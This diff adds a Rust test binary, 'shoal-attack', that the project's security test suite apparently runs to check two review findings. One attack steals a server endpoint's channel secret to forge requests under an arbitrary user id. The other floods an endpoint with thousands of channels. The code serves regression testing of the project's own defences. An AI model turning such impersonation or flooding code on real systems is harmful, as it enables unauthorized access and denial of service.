@@ -1,0 +1,274 @@
+//! `shoal-attack`: the attack suite's attacker (`crates/shoal/tests/attack.rs`),
+//! a program run as a real unprivileged user, which speaks to its node's
+//! link and to servers' sockets by hand, as a hostile program would.  The
+//! packages do not install it: what users run carries no test machinery.
+//!
+//! Each attack prints what it got, one line per step, and exits 0 when
+//! the attack worked, 1 when it was refused (the line says where), and 2
+//! on a bad argument or a broken link.
+
+use std::net::{SocketAddr, UdpSocket};
+use std::path::PathBuf;
+use std::process::ExitCode;
+use std::time::Duration;
+
+use clap::{Parser, Subcommand};
+use shoal_cap::{GetPort, PutPort};
+use shoal_rpc::link::{Found, Link, LinkRequest, LinkResponse};
+use shoal_session::{Algorithm, Channel};
+use shoal_wire::{ClientId, Frag, Instance, Packet, Request, Seq, TxnId, encode_plain};
+
+/// Attacks on a node's link and its servers, as the user who runs this.
+#[derive(Parser)]
+#[command(version)]
+struct Args {
+    /// The node's link socket.
+    #[arg(long)]
+    socket: PathBuf,
+    #[command(subcommand)]
+    attack: Attack,
+}
+
+#[derive(Subcommand)]
+enum Attack {
+    /// Review 3, C1: take the channel secret of the endpoint serving
+    /// PORT on this node by registering its instance id under a port of
+    /// one's own, then call it as UID.  Prints the reply's text.
+    Impersonate {
+        #[arg(long)]
+        port: PutPort,
+        #[arg(long)]
+        uid: u32,
+    },
+    /// Review 3, M5: open CHANNELS channels (one client id each) to the
+    /// endpoint serving PORT, with one request each, from as many links
+    /// as it takes.
+    FillChannels {
+        #[arg(long)]
+        port: PutPort,
+        #[arg(long)]
+        channels: usize,
+    },
+}
+
+fn main() -> ExitCode {
+    let args = Args::parse();
+    let result = match args.attack {
+        Attack::Impersonate { port, uid } => impersonate(&args.socket, port, uid),
+        Attack::FillChannels { port, channels } => fill_channels(&args.socket, port, channels),
+    };
+    match result {
+        Ok(true) => ExitCode::SUCCESS,
+        Ok(false) => ExitCode::from(1),
+        Err(e) => {
+            eprintln!("shoal-attack: {e}");
+            ExitCode::from(2)
+        }
+    }
+}
+
+/// A client id on `link`.
+fn client(link: &mut Link) -> Result<String, String> {
+    match link.call(&LinkRequest::Client).map_err(|e| e.to_string())? {
+        LinkResponse::Client { id, .. } => Ok(id),
+        other => Err(format!("client: {other:?}")),
+    }
+}
+
+/// The endpoint serving `port` that `link`'s node has, with `client`'s key
+/// for it, and the node it is on.
+fn locate(link: &mut Link, client: &str, port: PutPort) -> Result<(String, Found), String> {
+    let answer = link
+        .call(&LinkRequest::Locate {
+            client: client.into(),
+            port: port.to_string(),
+            instance: format!("{:016x}", 0),
+            node: format!("{:016x}", 0),
+            wait_ms: 3000,
+            all: false,
+        })
+        .map_err(|e| e.to_string())?;
+    let LinkResponse::Located { answers } = answer else {
+        return Err(format!("locate: {answer:?}"));
+    };
+    answers
+        .into_iter()
+        .find_map(|a| a.endpoints.into_iter().next().map(|f| (a.node, f)))
+        .ok_or_else(|| format!("nobody serves {port}"))
+}
+
+fn algorithm(aes: bool) -> Algorithm {
+    if aes {
+        Algorithm::Aes256Gcm
+    } else {
+        Algorithm::ChaCha20Poly1305
+    }
+}
+
+fn key(hex_text: &str) -> Result<[u8; 32], String> {
+    hex::decode(hex_text)
+        .ok()
+        .and_then(|b| b.try_into().ok())
+        .ok_or_else(|| "a key is not 32 bytes of hex".to_string())
+}
+
+/// One request of `body` to `instance` of `port`, from `client` as `uid`,
+/// sealed in `channel` for session `index`.
+fn request(
+    channel: &mut Channel,
+    index: u32,
+    uid: u32,
+    client: u64,
+    port: PutPort,
+    instance: Instance,
+    body: &[u8],
+) -> Vec<u8> {
+    let mut plain = Vec::new();
+    encode_plain(
+        &Packet::Request(Request {
+            txn: TxnId {
+                client: ClientId(client),
+                seq: Seq(1),
+            },
+            instance,
+            port,
+            frag: Frag { index: 0, count: 1 },
+            total_len: body.len() as u64,
+            payload: body,
+        }),
+        &mut plain,
+    );
+    let mut sealed = Vec::new();
+    channel.seal(index, uid, client, &[&plain], &mut sealed);
+    sealed
+}
+
+fn impersonate(socket: &std::path::Path, port: PutPort, uid: u32) -> Result<bool, String> {
+    let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
+    let id = client(&mut link)?;
+    let (_, victim) = locate(&mut link, &id, port)?;
+    println!("victim: instance {} at {}", victim.instance, victim.addr);
+    // Its instance, under a port of the attacker's own.
+    let register = link.call(&LinkRequest::Register {
+        get_port: GetPort::random().to_hex(),
+        addr: "127.0.0.1:9".parse().expect("an address"),
+        instance: victim.instance.clone(),
+    });
+    println!("register: {register:?}");
+    // Its secret, asked for whether or not the registration went through.
+    let answer = link.call(&LinkRequest::ServerKey {
+        instance: victim.instance.clone(),
+        index: victim.grant.index,
+    });
+    let Ok(LinkResponse::ServerKey {
+        secret, node, aes, ..
+    }) = answer
+    else {
+        println!("refused: server key: {answer:?}");
+        return Ok(false);
+    };
+    let node = u64::from_str_radix(&node, 16).map_err(|e| e.to_string())?;
+    let secret = key(&secret)?;
+    let client = u64::from_str_radix(&id, 16).map_err(|e| e.to_string())?;
+    let forged = shoal_session::kdf::channel_key(&secret, node, uid, client);
+    let mut channel = Channel::client(algorithm(aes), &forged);
+    let instance = Instance(u64::from_str_radix(&victim.instance, 16).map_err(|e| e.to_string())?);
+    let datagram = request(
+        &mut channel,
+        victim.grant.index,
+        uid,
+        client,
+        port,
+        instance,
+        b"forged",
+    );
+    match call(&mut channel, victim.addr, &datagram)? {
+        Some(reply) => {
+            println!("reply: {reply}");
+            Ok(true)
+        }
+        None => {
+            println!("refused: no reply opened");
+            Ok(false)
+        }
+    }
+}
+
+/// Sends `datagram` to `addr` and opens the reply in `channel`: its text,
+/// or `None` if nothing came back that opened within 3 s.
+fn call(
+    channel: &mut Channel,
+    addr: SocketAddr,
+    datagram: &[u8],
+) -> Result<Option<String>, String> {
+    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
+    socket
+        .set_read_timeout(Some(Duration::from_secs(3)))
+        .map_err(|e| e.to_string())?;
+    socket.send_to(datagram, addr).map_err(|e| e.to_string())?;
+    let mut buf = vec![0u8; 65536];
+    while let Ok((n, _)) = socket.recv_from(&mut buf) {
+        if let Ok((_, plain)) = channel.open(&mut buf[..n])
+            && let Ok(Packet::Reply(r)) = shoal_wire::decode_plain(plain)
+        {
+            return Ok(Some(String::from_utf8_lossy(r.payload).to_string()));
+        }
+    }
+    Ok(None)
+}
+
+fn fill_channels(socket: &std::path::Path, port: PutPort, channels: usize) -> Result<bool, String> {
+    let udp = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
+    let mut opened = 0;
+    let mut links = Vec::new();
+    while opened < channels {
+        // A link keeps 4096 client ids: a new one for each 4000.
+        let mut link = Link::connect(socket).map_err(|e| e.to_string())?;
+        let first = client(&mut link)?;
+        let (node, victim) = locate(&mut link, &first, port)?;
+        let instance =
+            Instance(u64::from_str_radix(&victim.instance, 16).map_err(|e| e.to_string())?);
+        for _ in 0..4000.min(channels - opened) {
+            let id = client(&mut link)?;
+            let grant = match link
+                .call(&LinkRequest::Channel {
+                    client: id.clone(),
+                    node: node.clone(),
+                    port: port.to_string(),
+                    instance: victim.instance.clone(),
+                })
+                .map_err(|e| e.to_string())?
+            {
+                LinkResponse::Channel(grant) => grant,
+                other => return Err(format!("channel: {other:?}")),
+            };
+            let uid = nix_uid();
+            let client = u64::from_str_radix(&id, 16).map_err(|e| e.to_string())?;
+            let mut channel = Channel::client(algorithm(grant.aes), &key(&grant.key)?);
+            let datagram = request(
+                &mut channel,
+                grant.index,
+                uid,
+                client,
+                port,
+                instance,
+                b"fill",
+            );
+            udp.send_to(&datagram, victim.addr)
+                .map_err(|e| e.to_string())?;
+            opened += 1;
+            if opened % 100 == 0 {
+                // Not faster than the server reads.
+                std::thread::sleep(Duration::from_millis(1));
+            }
+        }
+        links.push(link);
+    }
+    println!("sent: {opened} channels' first requests");
+    Ok(true)
+}
+
+fn nix_uid() -> u32 {
+    // SAFETY: getuid cannot fail.
+    unsafe { libc::getuid() }
+}
